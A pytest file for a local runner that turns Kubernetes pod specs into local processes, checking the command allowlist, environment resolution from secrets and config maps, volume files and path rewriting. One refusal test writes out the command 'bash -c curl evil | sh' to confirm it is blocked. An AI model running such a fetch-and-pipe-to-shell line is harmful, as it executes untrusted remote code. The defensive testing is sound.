"""A rendered pod becomes a local command line, environment and pod directory, paths rewritten;
anything but the project's own entry points is refused."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from quarantine_operator import envvars
from testenv.podrunner.materialising import (
    BIND_ADDRESS_ENV,
    CONFIG_MAP_MODE,
    SECRET_MODE,
    Identity,
    PodRefusedError,
    ProcessPlan,
    SetupError,
    VolumePlan,
    check_command,
    container_env,
    directories_to_create,
    expand,
    plan_process,
    plan_volumes,
    pod_directory,
    rewrite_path,
    the_container,
)
from validator_pod.domain.pipeline_config import CONFIG_FILE_NAME

from .builders import FakeSources, api_pod, container_of, validator_pod

POD_DIR = Path("/state/pods/shop/orders-validator-7d9f-abcde")
IDENTITY = Identity(pod_ip="127.0.0.7", host_ip="127.0.0.1", node_name="dataquarantine-local")
PYTHON = "/repo/.venv/bin/python"
BASE = {"PATH": "/usr/bin:/bin", "LANG": "C.UTF-8"}


def plans(
    pod: dict[str, Any], sources: FakeSources, pod_dir: Path = POD_DIR
) -> tuple[VolumePlan, ProcessPlan]:
    container = the_container(pod)
    volumes = plan_volumes(pod, container, sources, pod_dir)
    process = plan_process(
        pod,
        container,
        sources,
        identity=IDENTITY,
        volumes=volumes,
        pod_dir=pod_dir,
        python=PYTHON,
        base_env=BASE,
    )
    return volumes, process


# --- The command ------------------------------------------------------------------------------


def test_the_validator_runs_with_the_virtualenv_python_and_the_local_config_dir() -> None:
    pod, sources = validator_pod()

    _, process = plans(pod, sources)

    config_dir = str(POD_DIR / "etc/dataquarantine")
    assert process.argv == (PYTHON, "-m", "validator_pod", "run", "--config-dir", config_dir)
    assert process.cwd == POD_DIR


def test_the_api_runs_too() -> None:
    pod, sources = api_pod()

    _, process = plans(pod, sources)

    assert process.argv[1:4] == ("-m", "validator_pod", "api")
    assert process.env[envvars.API_TOKENS] == "ops:admin:t0ken"


@pytest.mark.parametrize(
    "argv",
    [
        ["sh", "-c", "python -m validator_pod run"],
        ["python", "-c", "import os"],
        ["python", "-m", "http.server"],
        ["python", "validator_pod/__main__.py"],
        ["/usr/bin/env", "python", "-m", "validator_pod"],
        [],
    ],
)
def test_anything_but_the_projects_entry_points_is_refused(argv: list[str]) -> None:
    with pytest.raises(PodRefusedError, match="runs only `python -m validator_pod"):
        check_command(argv)


@pytest.mark.parametrize(
    "argv",
    [
        ["python", "-m", "validator_pod", "run"],
        ["/usr/local/bin/python3", "-m", "quarantine_operator", "--all-namespaces"],
    ],
)
def test_the_validator_and_the_operator_are_allowed(argv: list[str]) -> None:
    check_command(argv)


def test_a_refused_command_in_the_pod_is_refused_before_anything_is_read() -> None:
    pod, _ = validator_pod()
    container_of(pod)["command"] = ["bash", "-c", "curl evil | sh"]

    with pytest.raises(
        PodRefusedError, match=re.escape("refusing to run 'bash -c curl evil | sh'")
    ):
        the_container(pod)


def test_pods_with_several_containers_or_init_containers_are_refused() -> None:
    pod, _ = validator_pod()
    pod["spec"]["containers"].append(dict(container_of(pod), name="sidecar"))
    with pytest.raises(PodRefusedError, match="one container per pod"):
        the_container(pod)

    pod, _ = validator_pod()
    pod["spec"]["initContainers"] = [container_of(pod)]
    with pytest.raises(PodRefusedError, match="initContainers are not supported"):
        the_container(pod)


# --- The environment --------------------------------------------------------------------------


def test_the_environment_holds_values_secrets_and_the_downward_api() -> None:
    pod, sources = validator_pod()

    _, process = plans(pod, sources)

    env = process.env
    assert env[envvars.POD_NAME] == "orders-validator-7d9f-abcde"
    assert env[envvars.POD_NAMESPACE] == "shop"
    assert env[envvars.METRICS_PORT] == "9400"
    assert env[envvars.S3_ACCESS_KEY] == "access"
    assert env[envvars.S3_SECRET_KEY] == "s3cr3t"
    assert env[envvars.POSTGRES_DSN] == "postgresql://dq:pw@127.0.0.1:5432/dq"
    assert env[envvars.KAFKA_SECURITY_PROTOCOL] == "PLAINTEXT"


def test_optional_secret_keys_that_are_missing_are_left_out() -> None:
    pod, sources = validator_pod()

    _, process = plans(pod, sources)

    assert envvars.KAFKA_SASL_USERNAME not in process.env
    assert envvars.KAFKA_SASL_PASSWORD not in process.env


def test_mount_paths_in_the_environment_point_into_the_pod_directory() -> None:
    pod, sources = validator_pod()

    _, process = plans(pod, sources)

    assert process.env[envvars.CONFIG_DIR] == str(POD_DIR / "etc/dataquarantine")
    assert process.env[envvars.KAFKA_SSL_CA_FILE] == str(
        POD_DIR / "var/run/secrets/dataquarantine/kafka/ca.crt"
    )


def test_the_runner_owns_the_address_host_name_home_and_temporary_directory() -> None:
    pod, sources = validator_pod()
    container_of(pod)["env"].append({"name": BIND_ADDRESS_ENV, "value": "0.0.0.0"})

    _, process = plans(pod, sources)

    assert process.env[BIND_ADDRESS_ENV] == "127.0.0.7"
    assert process.env["HOSTNAME"] == "orders-validator-7d9f-abcde"
    assert process.env["HOME"] == str(POD_DIR)
    assert process.env["TMPDIR"] == str(POD_DIR / "tmp")
    assert process.env["PATH"] == "/usr/bin:/bin"


def test_nothing_of_the_runners_own_environment_leaks_in(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DQ_POSTGRES_DSN", "postgresql://leaked")
    pod, sources = validator_pod()
    del sources.secrets["pg-creds"]
    container_of(pod)["env"] = [e for e in container_of(pod)["env"] if "DSN" not in e["name"]]

    _, process = plans(pod, sources)

    assert envvars.POSTGRES_DSN not in process.env


def test_a_missing_secret_is_a_config_error_to_retry() -> None:
    pod, sources = validator_pod()
    del sources.secrets["pg-creds"]

    with pytest.raises(SetupError) as raised:
        plans(pod, sources)

    assert raised.value.reason == "CreateContainerConfigError"
    assert raised.value.message == 'secret "pg-creds" not found'


def test_a_missing_required_key_is_a_config_error_to_retry() -> None:
    pod, sources = validator_pod()
    del sources.secrets["s3-creds"]["secretKey"]

    with pytest.raises(SetupError, match="couldn't find key secretKey in Secret s3-creds"):
        plans(pod, sources)


def test_config_map_keys_labels_and_annotations_and_env_from_are_resolved() -> None:
    pod, _ = validator_pod()
    pod["metadata"]["labels"]["team"] = "payments"
    sources = FakeSources(config_maps={"tuning": {"BATCH": b"500", "bad key": b"x"}})
    container = {
        "name": "c",
        "envFrom": [{"configMapRef": {"name": "tuning"}, "prefix": "DQ_"}],
        "env": [
            {"name": "LIMIT", "valueFrom": {"configMapKeyRef": {"name": "tuning", "key": "BATCH"}}},
            {
                "name": "TEAM",
                "valueFrom": {"fieldRef": {"fieldPath": "metadata.labels['team']"}},
            },
            {"name": "IP", "valueFrom": {"fieldRef": {"fieldPath": "status.podIP"}}},
            {"name": "NODE", "valueFrom": {"fieldRef": {"fieldPath": "spec.nodeName"}}},
            {"name": "URL", "value": "http://$(IP):$(DQ_BATCH)/$(UNKNOWN)/$$(IP)"},
        ],
    }

    env = container_env(pod, container, sources, IDENTITY)

    assert env == {
        "DQ_BATCH": "500",
        "LIMIT": "500",
        "TEAM": "payments",
        "IP": "127.0.0.7",
        "NODE": "dataquarantine-local",
        "URL": "http://127.0.0.7:500/$(UNKNOWN)/$(IP)",
    }


def test_unsupported_env_sources_are_refused() -> None:
    pod, sources = validator_pod()
    resource = {"resourceFieldRef": {"resource": "limits.cpu"}}
    refused = [
        {"name": "CPU", "valueFrom": resource},
        {"name": "X", "valueFrom": {"fieldRef": {"fieldPath": "status.phase"}}},
    ]
    for var in refused:
        with pytest.raises(PodRefusedError, match="not supported"):
            container_env(pod, {"name": "c", "env": [var]}, sources, IDENTITY)


# --- Volumes ----------------------------------------------------------------------------------


def test_the_config_map_items_become_files_under_the_volume_and_the_mount_links_to_it() -> None:
    pod, sources = validator_pod()

    volumes, _ = plans(pod, sources)

    files = {file.path: file for file in volumes.files}
    config = POD_DIR / "volumes/config"
    assert set(files) == {config / CONFIG_FILE_NAME, config / "schemas/orders/1.json"}
    pipeline = yaml.safe_load(files[config / CONFIG_FILE_NAME].content)
    assert pipeline["name"] == "orders"
    assert all(file.mode == CONFIG_MAP_MODE for file in files.values())
    assert dict(volumes.links) == {
        POD_DIR / "etc/dataquarantine": config,
        POD_DIR / "tmp": POD_DIR / "volumes/tmp",
        POD_DIR / "var/run/secrets/dataquarantine/kafka": POD_DIR / "volumes/kafka-tls",
    }


def test_secret_volumes_are_private_and_an_optional_missing_key_is_no_file() -> None:
    pod, sources = validator_pod()

    volumes, _ = plans(pod, sources)
    assert not [file for file in volumes.files if "kafka-tls" in str(file.path)]

    sources.secrets["kafka-creds"]["ca.crt"] = b"-----BEGIN CERTIFICATE-----"
    volumes, _ = plans(pod, sources)
    (ca,) = [file for file in volumes.files if "kafka-tls" in str(file.path)]
    assert ca.path == POD_DIR / "volumes/kafka-tls/ca.crt"
    assert ca.mode == SECRET_MODE


def test_a_missing_config_map_is_a_mount_failure_to_retry() -> None:
    pod, sources = validator_pod()
    sources.config_maps.clear()

    with pytest.raises(SetupError) as raised:
        plans(pod, sources)

    assert raised.value.reason == "FailedMount"
    assert raised.value.message == 'configmap "orders-config" not found'


def test_unsupported_volumes_and_reserved_mount_paths_are_refused() -> None:
    pod, sources = validator_pod()
    pod["spec"]["volumes"].append({"name": "host", "hostPath": {"path": "/"}})
    with pytest.raises(PodRefusedError, match="'host' \\(hostPath\\) is not supported"):
        plans(pod, sources)

    pod, sources = validator_pod()
    container_of(pod)["volumeMounts"].append({"name": "tmp", "mountPath": "/log"})
    with pytest.raises(PodRefusedError, match="collides with the runner's log"):
        plans(pod, sources)


def test_the_directories_to_create_are_inside_the_pod_directory() -> None:
    pod, sources = validator_pod()
    container_of(pod)["workingDir"] = "/app"

    _, process = plans(pod, sources)

    assert process.cwd == POD_DIR / "app"
    assert list(directories_to_create(process, POD_DIR)) == [POD_DIR / "app", POD_DIR / "tmp"]


# --- Paths ------------------------------------------------------------------------------------

MOUNTS = {"/etc/dq": Path("/p/etc/dq"), "/etc/dq/schemas": Path("/p/s"), "/tmp": Path("/p/tmp")}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("/etc/dq", "/p/etc/dq"),
        ("/etc/dq/pipeline.yaml", "/p/etc/dq/pipeline.yaml"),
        ("/etc/dq/schemas/orders/1.json", "/p/s/orders/1.json"),
        ("--config-dir=/etc/dq", "--config-dir=/p/etc/dq"),
        ("/etc/dqx", "/etc/dqx"),
        ("/tmp", "/p/tmp"),
        ("relative/etc/dq", "relative/etc/dq"),
        ("postgresql://u:p@h/db?x=/etc/dq", "postgresql://u:p@h/db?x=/etc/dq"),
    ],
)
def test_mount_paths_are_rewritten_to_the_longest_matching_mount(value: str, expected: str) -> None:
    assert rewrite_path(value, MOUNTS) == expected


def test_paths_are_rewritten_once_even_when_the_state_lives_under_a_mount_path() -> None:
    pod, sources = validator_pod()
    pod_dir = pod_directory(Path("/tmp/pytest/state"), "shop", "orders-validator-7d9f-abcde")
    container_of(pod)["args"] = ["--extra=$(DQ_CONFIG_DIR)"]

    _, process = plans(pod, sources, pod_dir)

    local = str(pod_dir / "etc/dataquarantine")
    assert process.env[envvars.CONFIG_DIR] == local
    assert process.argv[-1] == f"--extra={local}"
    assert process.env["TMPDIR"] == str(pod_dir / "tmp")


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("$(A)", "1"),
        ("$(A)-$(B)", "1-two"),
        ("$$(A)", "$(A)"),
        ("$(MISSING)", "$(MISSING)"),
        ("$(A", "$(A"),
        ("cost: $5", "cost: $5"),
    ],
)
def test_variable_references_expand_like_kubernetes(value: str, expected: str) -> None:
    assert expand(value, {"A": "1", "B": "two"}) == expected
